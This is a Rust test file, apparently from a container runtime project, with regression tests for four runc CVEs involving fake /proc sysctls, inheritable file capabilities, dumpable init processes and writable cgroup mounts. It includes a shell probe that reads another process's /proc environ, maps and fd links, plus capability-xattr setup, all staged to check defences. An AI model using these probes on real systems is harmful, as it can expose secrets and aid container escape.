fn cve_2019_16884_no_runtime_writes_into_a_fake_proc() {
    let Some(rt) = Runtime::new("cve-2019-16884") else {
        return;
    };
    let fake_proc = rt.dir("fake-proc");
    for (file, content) in [
        ("sys/net/ipv4/ip_forward", "0\n"),
        ("self/attr/exec", ""),
        ("self/attr/apparmor/exec", ""),
        ("self/attr/current", "unconfined\n"),
    ] {
        let path = fake_proc.join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }
    let fake_sys = rt.dir("fake-proc-sys");
    fs::create_dir_all(fake_sys.join("net/ipv4")).unwrap();
    fs::write(fake_sys.join("net/ipv4/ip_forward"), "0\n").unwrap();
    let before = (tree(&fake_proc), tree(&fake_sys));
    let mut problems = Vec::new();

    let with_sysctl = |rt: &Runtime| {
        let mut bundle = rt.bundle();
        bundle
            .namespace("network", None)
            .set("/linux/sysctl", json!({ "net.ipv4.ip_forward": "1" }))
            .sh("cat /proc/sys/net/ipv4/ip_forward");
        bundle
    };

    let mut bundle = with_sysctl(&rt);
    bundle.bind(&fake_proc, "/proc", false);
    rt.create_rejected(&bundle, &rt.new_id())
        .fails_mentioning("proc");

    let mut bundle = with_sysctl(&rt);
    bundle.bind(&fake_sys, "/proc/sys", false);
    rt.create_rejected(&bundle, &rt.new_id())
        .fails_mentioning("proc");

    let mut bundle = with_sysctl(&rt);
    bundle.mount("/proc/sys", "tmpfs", "tmpfs", &["size=1m"]);
    rt.create_rejected(&bundle, &rt.new_id())
        .fails_mentioning("proc");

    if (tree(&fake_proc), tree(&fake_sys)) != before {
        problems.push(format!(
            "a fake /proc on the host was written: before {before:?}, after {:?}",
            (tree(&fake_proc), tree(&fake_sys))
        ));
    }

    // The image's own /proc is a directory with a fake sysctl file.
    let mut bundle = with_sysctl(&rt);
    bundle.writable_root();
    let mounts: Vec<_> = bundle.config["mounts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["destination"] != "/proc")
        .cloned()
        .collect();
    bundle.set("/mounts", mounts);
    bundle.set("/linux/maskedPaths", json!([]));
    bundle.set("/linux/readonlyPaths", json!([]));
    bundle.write_file("proc/sys/net/ipv4/ip_forward", "0\n");
    let out = rt.run(&bundle, &rt.new_id(), &[]);
    let now = bundle.read_file("proc/sys/net/ipv4/ip_forward");
    if now != "0\n" {
        let problem = format!(
            "the runtime wrote sysctl value {now:?} into the image's fake /proc/sys:\n{out}"
        );
        if is_hull() {
            problems.push(problem);
        } else {
            skip(&format!(
                "runc 1.1 does not check /proc/sys before sysctls: {problem}"
            ));
        }
    }
    assert_no_problems(&problems);
}

// ---------------------------------------------------------------------------
// CVE-2022-29162
// ---------------------------------------------------------------------------

/// Writes `busybox` to `path` with file capabilities "cap_net_raw+ei" (an
/// inheritable file capability, set through the security.capability xattr).
fn install_inheritable_cap_binary(path: &Path) {
    let busybox = ["/bin/busybox", "/usr/bin/busybox"]
        .iter()
        .find(|p| Path::new(p).exists())
        .expect("busybox on the host");
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::copy(busybox, path).unwrap();
    const VFS_CAP_REVISION_2: u32 = 0x0200_0000;
    const VFS_CAP_FLAGS_EFFECTIVE: u32 = 0x1;
    const CAP_NET_RAW: u32 = 13;
    // struct vfs_cap_data: magic_etc, then {permitted, inheritable} x 2.
    let words: [u32; 5] = [
        VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
        0,
        1 << CAP_NET_RAW,
        0,
        0,
    ];
    let bytes: Vec<u8> = words.iter().flat_map(|w| w.to_le_bytes()).collect();
    let cpath = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    // SAFETY: setxattr reads the NUL-terminated name and value buffer.
    let rc = unsafe {
        libc::setxattr(
            cpath.as_ptr(),
            c"security.capability".as_ptr(),
            bytes.as_ptr().cast(),
            bytes.len(),
            0,
        )
    };
    assert_eq!(
        rc,
        0,
        "setxattr security.capability: {}",
        std::io::Error::last_os_error()
    );
}

/// CVE-2022-29162: `runc exec --cap` (and runc's default spec) gave processes
/// non-empty *inheritable* capabilities. execve then grants a program with
/// inheritable file capabilities those capabilities in its permitted set —
/// a non-root user in the container gains privileges the container's
/// process was not meant to hand out.
///
/// The container's config has CAP_NET_RAW in bounding/effective/permitted but
/// no inheritable set, no_new_privileges off, and an image binary (busybox
/// named `grep`) with file capabilities cap_net_raw+ei. Processes exec'd with
/// the defaults, with `--process` files without capabilities or without an
/// inheritable set, as root and as uid 1000, and with `--cap CAP_NET_RAW`
/// when `exec --help` lists it: CapInh and CapAmb must be 0, and the
/// file-capability binary run as uid 1000 must not get CAP_NET_RAW in its
/// permitted set. A vulnerable runtime fills the inheritable set and fails.
/// As a control, a `--process` file that *asks* for an inheritable
/// CAP_NET_RAW must make the binary gain it (so the file capability works).
#[test]
fn cve_2022_29162_exec_gets_no_inheritable_capabilities() {
    let Some(rt) = Runtime::new("cve-2022-29162") else {
        return;
    };
    let mut bundle = rt.bundle();
    add_caps(&mut bundle, &["CAP_NET_RAW"]);
    bundle
        .remove("/process/capabilities/inheritable")
        .set("/process/noNewPrivileges", false);
    install_inheritable_cap_binary(&bundle.rootfs().join("capbin/grep"));
    let id = rt.start_sleeper(&mut bundle);
    let dir = rt.dir("process");
    let mut problems = Vec::new();

    let status_cmd = ["grep", "-E", "^Cap", "/proc/self/status"];
    let capbin_cmd = ["/capbin/grep", "-E", "^Cap", "/proc/self/status"];
    let mut attempts: Vec<(String, Output, bool)> = vec![
        (
            "exec (defaults)".into(),
            rt.exec(&id, &[], &status_cmd),
            false,
        ),
        (
            "exec -u 1000 of the cap_net_raw+ei binary".into(),
            rt.exec(&id, &["-u", "1000:1000"], &capbin_cmd),
            true,
        ),
    ];
    let process = |name: &str, uid: u32, args: &[&str], caps: Option<serde_json::Value>| {
        let mut p = json!({
            "terminal": false,
            "user": { "uid": uid, "gid": uid },
            "args": args,
            "env": ["PATH=/bin"],
            "cwd": "/",
            "noNewPrivileges": false
        });
        if let Some(caps) = caps {
            p["capabilities"] = caps;
        }
        let path = dir.join(name);
        fs::write(&path, p.to_string()).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let no_inheritable = json!({
        "bounding": ["CAP_NET_RAW", "CAP_KILL"],
        "effective": ["CAP_NET_RAW"],
        "permitted": ["CAP_NET_RAW"],
        "ambient": ["CAP_NET_RAW"]
    });
    for (name, uid, args, caps, capbin) in [
        ("root-nocaps.json", 0, &status_cmd, None, false),
        ("user-nocaps.json", 1000, &capbin_cmd, None, true),
        (
            "root-noinh.json",
            0,
            &status_cmd,
            Some(no_inheritable.clone()),
            false,
        ),
        (
            "user-noinh.json",
            1000,
            &capbin_cmd,
            Some(no_inheritable.clone()),
            true,
        ),
    ] {
        let path = process(name, uid, args, caps);
        attempts.push((
            format!("exec --process {name}"),
            rt.exec(&id, &["--process", &path], &[]),
            capbin,
        ));
    }
    // Control: with CAP_NET_RAW configured as inheritable on purpose, the
    // binary does gain it, so its file capability works and the checks
    // above can fail.
    let with_inheritable = json!({
        "bounding": ["CAP_NET_RAW"],
        "effective": ["CAP_NET_RAW"],
        "permitted": ["CAP_NET_RAW"],
        "inheritable": ["CAP_NET_RAW"]
    });
    let path = process("user-inh.json", 1000, &capbin_cmd, Some(with_inheritable));
    let control = rt.exec(&id, &["--process", &path], &[]);
    let prm = cap_field(&control.stdout, "CapPrm");
    if prm.is_none_or(|p| p & (1 << 13) == 0) {
        problems.push(format!(
            "control: inheritable CAP_NET_RAW + the cap_net_raw+ei binary did not give CAP_NET_RAW \
             (CapPrm {prm:x?}): the file-capability checks are not meaningful:\n{control}"
        ));
    }
    let help = rt.cmd(&["exec", "--help"]);
    if help.stdout.contains("--cap") {
        attempts.push((
            "exec --cap CAP_NET_RAW".into(),
            rt.exec(&id, &["--cap", "CAP_NET_RAW"], &status_cmd),
            false,
        ));
        attempts.push((
            "exec --cap CAP_NET_RAW -u 1000 of the cap_net_raw+ei binary".into(),
            rt.exec(
                &id,
                &["--cap", "CAP_NET_RAW", "-u", "1000:1000"],
                &capbin_cmd,
            ),
            true,
        ));
    } else {
        skip("the runtime has no `exec --cap`");
    }

    for (label, out, capbin) in attempts.drain(..) {
        if !out.success() {
            problems.push(format!("{label}: failed:\n{out}"));
            continue;
        }
        for field in ["CapInh", "CapAmb"] {
            match cap_field(&out.stdout, field) {
                Some(0) => {}
                other => problems.push(format!(
                    "{label}: {field} is {other:x?}, expected 0:\n{out}"
                )),
            }
        }
        if capbin {
            let prm = cap_field(&out.stdout, "CapPrm");
            if prm.is_none_or(|p| p & (1 << 13) != 0) {
                problems.push(format!(
                    "{label}: the inheritable file capability was granted (CapPrm {prm:x?}):\n{out}"
                ));
            }
        }
    }
    assert_no_problems(&problems);
}

// ---------------------------------------------------------------------------
// CVE-2016-9962
// ---------------------------------------------------------------------------

/// CVE-2016-9962: the runtime's process that joins a container (runc's init
/// for `exec`) was dumpable, so the container's processes could ptrace it or
/// open its /proc/PID/fd entries while it still held host file descriptors,
/// and reach the host through them.
///
/// Hull code runs inside a container next to its processes in two places:
/// the waiting init of a *created* container, and the `exec` child between
/// entering the namespaces and its execve. Both are clones of a runtime that
/// made itself non-dumpable first, so checking the first covers the mechanism:
/// an exec'd process with the default capabilities (no CAP_SYS_PTRACE) must be
/// denied /proc/1/environ, maps, the cwd/root/exe links, and the target of
/// every /proc/1/fd entry of the waiting init (the fd directory itself is
/// listable by its owner: only the numbers show). As a control, the same reads
/// succeed once `start` made pid 1 the container's (dumpable) program.
///
/// The CVE's literal case, stalling the exec child on a FIFO the image put at
/// /etc/passwd, cannot be staged against hull: its exec child opens no file of
/// the container before execve that could block (HOME is read from
/// /etc/passwd only if it is a regular file, without blocking).
///
/// runc 1.1 leaves its waiting init (`runc:[2:INIT]`) dumpable, so the check is
/// only asserted for hull.
#[test]
fn cve_2016_9962_runtime_processes_in_container_are_not_inspectable() {
    let Some(rt) = Runtime::new("cve-2016-9962") else {
        return;
    };
    let mut problems = Vec::new();
    let probe = |pid: &str| {
        format!(
            r#"p={pid}
cat /proc/$p/environ >/dev/null 2>&1 && echo "environ readable" || echo "environ denied"
cat /proc/$p/maps >/dev/null 2>&1 && echo "maps readable" || echo "maps denied"
for l in cwd root exe; do readlink /proc/$p/$l >/dev/null 2>&1 && echo "$l readable" || echo "$l denied"; done
n=0
for fd in $(ls /proc/$p/fd 2>/dev/null); do
  n=$((n+1))
  readlink /proc/$p/fd/$fd >/dev/null 2>&1 && echo "fd/$fd readable: $(readlink /proc/$p/fd/$fd)" || echo "fd/$fd denied"
done
echo "fds $n"
echo "comm $(cat /proc/$p/comm)""#
        )
    };
    let readable = |out: &str| -> Vec<String> {
        out.lines()
            .filter(|l| l.contains("readable"))
            .map(str::to_owned)
            .collect()
    };

    // 1. The waiting init of a created container.
    let mut bundle = rt.bundle();
    bundle.args(&["sleep", "600"]);
    let id = rt.new_id();
    rt.create(&bundle, &id, &[]).ok();
    let out = rt.exec(&id, &[], &["sh", "-c", &probe("1")]);
    eprintln!(
        "--- waiting init probed by an exec'd process:\n{}",
        out.stdout
    );
    out.ok();
    let leaks = readable(&out.stdout);
    if !leaks.is_empty() {
        let problem =
            format!("created container: the waiting init is inspectable: {leaks:?}\n{out}");
        if is_hull() {
            problems.push(problem);
        } else {
            skip(&format!(
                "runc 1.1 leaves its waiting init dumpable: {problem}"
            ));
        }
    }
    if out.lines().contains(&"fds 0") {
        problems.push(format!(
            "created container: no fds of pid 1 seen (test not meaningful):\n{out}"
        ));
    }
    rt.start(&id).ok();
    let control = rt.exec(&id, &[], &["sh", "-c", &probe("1")]);
    if !control.ok().lines().contains(&"environ readable") {
        problems.push(format!(
            "control: pid 1 is not readable even after start (test not meaningful):\n{control}"
        ));
    }

    assert_no_problems(&problems);
}

// ---------------------------------------------------------------------------
// CVE-2023-25809
// ---------------------------------------------------------------------------

/// CVE-2023-25809: in a user namespace without a cgroup namespace the runtime
/// cannot mount a cgroup filesystem and bind-mounts the host's hierarchy
/// instead; runc made that bind writable (the "ro" of the mount was lost), so
/// the container could write to cgroups it was delegated on the host.
///
/// A user-namespaced container (uid/gid 0 → 100000, no cgroup namespace)
/// with the default spec's /sys/fs/cgroup mount: every cgroup mount under
/// /sys/fs/cgroup must be read-only in the container's mountinfo, `mkdir
/// /sys/fs/cgroup/memory/x` must fail with EROFS (a writable bind would fail
/// with EACCES here, or succeed for a delegated cgroup) and `touch
/// /sys/fs/cgroup/x` must fail; for hull, the tmpfs at /sys/fs/cgroup must
/// be read-only as well. For hull, the same holds when the config's
/// cgroup mount lacks "ro": hull forces it read-only in a user namespace
/// without a cgroup namespace (runc 1.1 follows the config there). Anything
/// the probe manages to create is removed at once; nothing is written on
/// the host.
#[test]
fn cve_2023_25809_cgroup_mount_read_only_in_user_namespace() {
    let Some(rt) = Runtime::new("cve-2023-25809") else {
        return;
    };
    let mut problems = Vec::new();
    let script = r#"awk '$5 ~ "^/sys/fs/cgroup" { split($0, a, " - "); split(a[2], b, " "); print "mount", $5, $6, b[1] }' /proc/self/mountinfo
if err=$(touch /sys/fs/cgroup/x 2>&1); then echo "touch CREATED"; rm -f /sys/fs/cgroup/x; else echo "touch failed: $err"; fi
if err=$(mkdir /sys/fs/cgroup/memory/x 2>&1); then echo "mkdir CREATED"; rmdir /sys/fs/cgroup/memory/x; else echo "mkdir failed: $err"; fi"#;
    let variants: &[(&str, bool)] = if is_hull() {
        &[
            ("default cgroup mount", true),
            ("cgroup mount without ro", false),
        ]
    } else {
        &[("default cgroup mount", true)]
    };
    for &(label, keep_ro) in variants {
        let mut bundle = rt.bundle();
        let mapping = json!([{ "containerID": 0, "hostID": 100000, "size": 65536 }]);
        bundle
            .namespace("user", None)
            .remove_namespace("cgroup")
            .set("/linux/uidMappings", mapping.clone())
            .set("/linux/gidMappings", mapping)
            .sh(script);
        if !keep_ro {
            for m in bundle.config["mounts"].as_array_mut().unwrap() {
                if m["destination"] == "/sys/fs/cgroup" {
                    let opts: Vec<_> = m["options"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .filter(|o| *o != "ro")
                        .cloned()
                        .collect();
                    m["options"] = json!(opts);
                }
            }
        }
        let out = rt.run(&bundle, &rt.new_id(), &[]);
        if !out.success() {
            problems.push(format!("{label}: the container did not run:\n{out}"));
            continue;
        }
        let mut cgroup_mounts = 0;
        for line in out.lines() {
            let f: Vec<&str> = line.split_whitespace().collect();
            if f.first() != Some(&"mount") || f.len() < 4 {
                continue;
            }
            let ro = f[2].split(',').any(|o| o == "ro");
            if f[3] == "cgroup" || f[3] == "cgroup2" {
                cgroup_mounts += 1;
                if !ro {
                    problems.push(format!("{label}: {} is writable:\n{out}", f[1]));
                }
            } else if is_hull() && !ro {
                problems.push(format!("{label}: {} ({}) is writable:\n{out}", f[1], f[3]));
            }
        }
        if cgroup_mounts == 0 {
            problems.push(format!(
                "{label}: no cgroup mounts under /sys/fs/cgroup (test not meaningful):\n{out}"
            ));
        }
        if out.stdout.contains("CREATED") {
            problems.push(format!("{label}: the container created an entry under /sys/fs/cgroup (removed again):\n{out}"));
        }
        let mkdir = out
            .lines()
            .into_iter()
            .find(|l| l.starts_with("mkdir failed"))
            .unwrap_or_default();
        if !mkdir.contains("Read-only file system") {
            problems.push(format!(
                "{label}: mkdir in the memory hierarchy did not fail with EROFS:\n{out}"
            ));
        }
    }
    assert_no_problems(&problems);
}
